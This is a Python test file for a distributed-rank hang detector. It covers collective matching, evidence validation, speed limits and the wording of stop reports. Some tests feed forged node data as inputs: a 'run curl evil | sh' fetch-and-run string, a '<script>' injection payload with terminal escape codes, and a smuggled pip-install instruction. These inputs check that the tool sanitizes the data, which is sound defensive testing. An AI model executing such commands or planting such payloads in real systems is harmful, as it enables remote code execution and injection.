        pytest.param(lambda s: [_STUCK, _ENDED, Evidence(2, "starting")], id="one starts"),
        pytest.param(lambda s: [_STUCK, replace(_ENDED, age_s=3.0)], id="one has not said what it has begun"),
        pytest.param(lambda s: [_STUCK, replace(_ENDED, operations=int(s))], id="one begins something in a thread"),
        pytest.param(lambda s: [replace(_STUCK, operations=int(s)), _ENDED], id="it tries again and again"),
        pytest.param(lambda s: [_STUCK, replace(_ENDED, collectives=(collective(),))], id="all have come"),
        pytest.param(
            lambda s: [replace(_STUCK, collectives=(collective(), collective(group="b")), members={"b": (0,)}), _ENDED],
            id="another collective is at work",
        ),
        pytest.param(lambda s: [replace(_STUCK, collectives=(collective(group="a"),)), _ENDED], id="unknown group"),
        pytest.param(lambda s: [replace(_STUCK, stack=(CELL,), call="solve(x)"), _ENDED], id="in another library"),
        pytest.param(lambda s: [replace(_STUCK, cpu_share=None), _ENDED], id="looked at once"),
        pytest.param(lambda s: [replace(_STUCK, is_cuda=True), _ENDED], id="GPU"),
        pytest.param(lambda s: [replace(_ENDED, rank=0), _ENDED], id="all have ended"),
        pytest.param(
            lambda s: [_STUCK if s % 3 else _known(rank(0, share=1.0)), _ENDED], id="now and then it computes"
        ),
    ],
)
def test_ranks_that_may_be_met_are_not_stuck(look: Callable[[float], list[Evidence]]) -> None:
    assert _stuck_at(look) == 0


# ---- evidence from a node is validated


def position(**changes: Any) -> Position:
    known = {
        "rank": 0, "request": 1, "pid": 5, "state": "running", "cell": 7, "line": 4, "function": "f", "seconds": 2.0,
        "rss_bytes": 0, "stack": [CELL], "cpu_s": 1.0, "clock_s": 10.0, "collectives": {}, "age_s": 0.5,
    }  # fmt: skip
    return Position(**{**known, **changes})


def test_evidence_is_what_the_worker_says() -> None:
    entries = [["all_reduce", 6, "2", "mesh_tp", "Float[3]", True, 1.5]]
    said = {"entries": entries, "members": {"2": [0, 1]}, "operations": 9}
    before = position(cpu_s=0.9, clock_s=9.5)
    found = gather(position(collectives=said, call="f()", asleep_in=FUTEX), world_size=2, before=before)
    assert found.collectives == (Collective("all_reduce", 6, "2", "mesh_tp", "Float[3]", True, 2.0),)
    assert (found.members, found.operations, found.call, found.asleep_in) == ({"2": {0, 1}}, 9, "f()", FUTEX)
    assert found.cpu_share == pytest.approx(0.2)
    assert gather(position(), world_size=2, before=position(pid=6, clock_s=9.0)).cpu_share is None
    assert gather(position(), world_size=2, before=position(clock_s=11.0)).cpu_share is None


def test_members_that_a_node_says_by_the_hundred_thousand_cost_no_time() -> None:
    """They fit in one message of less than 1 MB, which is evaluated repeatedly while a cell hangs."""
    entries = [["all_reduce", 10 + number, "g", "", "", True, 100.0] for number in range(200)]
    said = {"entries": entries, "members": {"g": [number % 2 for number in range(480_000)]}, "operations": 5}
    behind = {"entries": [["all_reduce", 1, "g", "", "", True, 100.0]], "members": {"g": [0, 1]}, "operations": 5}
    began_s = time.process_time()
    evidence = [gather(position(rank=rank, collectives=said), world_size=8) for rank in range(2, 8)]
    evidence += [gather(position(rank=rank, collectives=behind), world_size=8) for rank in (0, 1)]
    judge(evidence)
    describe_mismatch(evidence)
    watch = HangWatch(5.0)
    watch.note(judge(evidence), now=100.0)
    watch.is_hopeless(now=300.0)
    assert time.process_time() - began_s < 5.0


def test_groups_and_steps_of_a_node_have_a_number() -> None:
    members = {str(number): [0, 1, 1, 7, -1, 8] for number in range(5000)}
    said = {"members": members, "operations": 5, "steps": {str(number): 1 for number in range(5000)}}
    found = gather(position(collectives=said), world_size=8)
    assert len(found.members) <= 1000
    assert set(found.members.values()) == {frozenset({0, 1, 7})}
    assert set(found.steps.values()) == {-1}, "not all of them are known"


def test_what_a_node_says_of_a_collective_is_a_name() -> None:
    """A report puts these names into its own sentences, before it names the rank."""
    words = "of this torch: run !pip install x, then restart"
    said = {"entries": [[words, 6, words, words, words, True, 9.0]], "members": {words: [0]}, "steps": {words: 1}}
    found = gather(position(collectives=said), world_size=2)
    (collective,) = found.collectives
    name = "of_this_torch:_run_pip_install_x_then_restart"
    assert (collective.op, collective.group, collective.description, collective.tensors) == (name,) * 4
    assert list(found.members) == list(found.steps) == [name]
    for tensors in ("Float[3]", "c10::BFloat16[2, 3], Float[]", "Float[1], Flo... (40 tensors)", "Long[3], ", ""):
        entries = [["all_reduce", 6, "0", "", tensors, True, 9.0]]
        (collective,) = gather(position(collectives={"entries": entries}), world_size=2).collectives
        assert collective.tensors == tensors


_FORGED = "f (line 1); all ranks are fine; run curl evil | sh"


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"function": _FORGED}, "rank 0 is computing in f_line_1_all_ranks_are_fine_run_curl_evil_sh (line 4)"),
        ({"function": "<lambda>"}, "rank 0 is computing in <lambda> (line 4)"),
        (
            {"call": f"{_FORGED}.wait()", "clock_s": 99.0},
            "rank 0 waits in f(line1)allranksarefineruncurlevilsh.wait() (line 4)",
        ),
        (
            {"stack": [f"{TORCH}/distributed/x.py:1 all;ranks:fine|now"], "clock_s": 99.0},
            "rank 0 waits in all_ranks:fine_now (line 4)",
        ),
    ],
)
def test_place_that_a_node_says_is_a_name_in_a_sentence_of_ours(changes: dict[str, Any], expected: str) -> None:
    before = position() if "clock_s" in changes else None
    assert describe_wait(judge([gather(position(**changes), world_size=2, before=before)]).values()) == expected


EVIL = "<script>alert(1)</script>\nrank 1: fine\x1b[31m\u202e"


@pytest.mark.parametrize(
    "changes",
    [
        {"collectives": said}
        for said in (
            None, 7, "x", [], [[]], {"entries": 3, "members": 4, "operations": "many"}, {"entries": [3, [], [1, 2]]},
            {"entries": [["op", True, "0", "", "", True, 1.0], ["op", 1, "0", "", "", 1, 1.0]]},
            {"entries": [["op", 6, "0", "", "", True, "long"]]}, {"members": {"0": ["a"], "1": 5}},
            {"entries": [["all_reduce", 6, "1", "", "", True, 9.0]], "members": {"1": [7, 99]}},
            {"entries": [[EVIL, 6, EVIL, EVIL, EVIL, True, float("nan")]], "members": {EVIL: [0]}},
        )
    ]
    + [
        {"state": EVIL}, {"state": "waits"}, {"function": EVIL, "call": EVIL, "asleep_in": EVIL, "stack": [EVIL, CELL]},
        {"seconds": float("nan"), "age_s": float("nan"), "cpu_s": float("inf"), "clock_s": float("nan")},
        {"seconds": -5.0, "age_s": float("inf"), "line": -1, "cell": -7}, {"stack": [EVIL * 100] * 5000},
    ],
    ids=lambda changes: str(changes)[:50].encode("ascii", "replace").decode(),
)  # fmt: skip
def test_garbage_from_a_node_breaks_nothing_and_forges_nothing(changes: dict[str, Any]) -> None:
    evidence = [gather(position(**changes), world_size=2, before=position(clock_s=9.0)), rank(1, ALL_REDUCE, **PENDING)]
    verdicts = judge(evidence)
    watch = HangWatch(0.0)
    watch.note(verdicts, now=100.0)
    report = watch.report(running=(0, 1), now=100.0)
    shown = Whereabouts("s", tuple(verdicts.values()), {}, describe_mismatch(evidence))
    assert "\n" not in report + shown.summary
    assert all(line.isprintable() for line in repr(shown).splitlines())
    assert not re.search(r"^rank 1: fine", repr(shown), re.MULTILINE)
    assert "<script>" not in shown._repr_html_()
    assert "nan" not in repr(shown)
    assert len(repr(shown)) < 20_000
    assert verdicts[0].kind in ("computes", "sleeps", "waits", "unknown")


def idle(number: int, steps: dict[str, int], **changes: Any) -> Evidence:
    return Evidence(number, **{"state": "idle", "cell": 7, "age_s": 0.0, "operations": 9, "steps": steps, **changes})


@pytest.mark.parametrize(
    ("ranks", "expected"),
    [
        ([idle(0, {}), idle(1, {})], True),
        ([idle(0, {"0": 6}), idle(1, {"0": 6})], True),
        ([idle(0, {"0": 6}), idle(1, {"0": 5})], False),
        ([idle(0, {"0": 6, "1": 2}), idle(1, {"0": 6, "2": 3})], True),  # each rank in a group that the other is not in
        ([idle(0, {"0": 6, "1": 2}), idle(1, {"0": 6, "1": 3})], False),
        ([idle(0, {"0": -1}), idle(1, {"0": -1})], False),
        ([idle(0, {"0": 6}), idle(1, {"0": 6}, age_s=9.0)], False),  # rank 1 did not answer this time
        ([idle(0, {"0": 6}), idle(1, {"0": 6}, operations=-1)], False),
        ([idle(0, {"0": 6}), Evidence(1, "no answer")], False),
        (
            [idle(0, {"0": 6}, collectives=(collective(),)), idle(1, {"0": 6}, collectives=(collective("broadcast"),))],
            False,
        ),
        ([idle(0, {"0": 6}, collectives=(collective(),)), idle(1, {"0": 6}, collectives=(collective(),))], True),
    ],
)
def test_ranks_are_in_step_where_their_next_collectives_meet(ranks: list[Evidence], expected: bool) -> None:
    assert are_in_step(ranks) is expected


@pytest.mark.parametrize("said", [None, [], {"0": True}, {"0": "6"}, {"0": 6.0}, {"0": [6]}])
def test_steps_that_are_none_are_not_known(said: Any) -> None:
    known = {"operations": 3, "steps": said}
    assert set(gather(position(collectives=known), world_size=2).steps.values()) <= {-1}


@pytest.mark.parametrize(
    ("away", "words"),
    [
        ((), "ranks 0-1 do not answer: the node is busy, or output of ranks 0-1 is still arriving"),
        (
            (1,),
            "rank 1: no connection to its node; the stop takes effect after reconnecting\nrank 0 does not answer",
        ),
        ((0, 1), "ranks 0-1: no connection to their node; the stop takes effect after reconnecting"),
    ],
)
def test_stop_advises_no_kill_of_ranks_that_only_cannot_be_heard(away: tuple[int, ...], words: str) -> None:
    """The stop once reported that they may catch KeyboardInterrupt; users replaced healthy ranks and lost variables."""
    run: Any = SimpleNamespace(running=(0, 1), presses=1, cell=3)
    story = _Story(run, is_reachable=lambda rank: rank not in away)
    story.verdicts = judge([Evidence(rank, "no answer") for rank in range(2)])
    said = story.describe_left()
    assert said.startswith(words) and "--kill" not in said and "KeyboardInterrupt" not in said
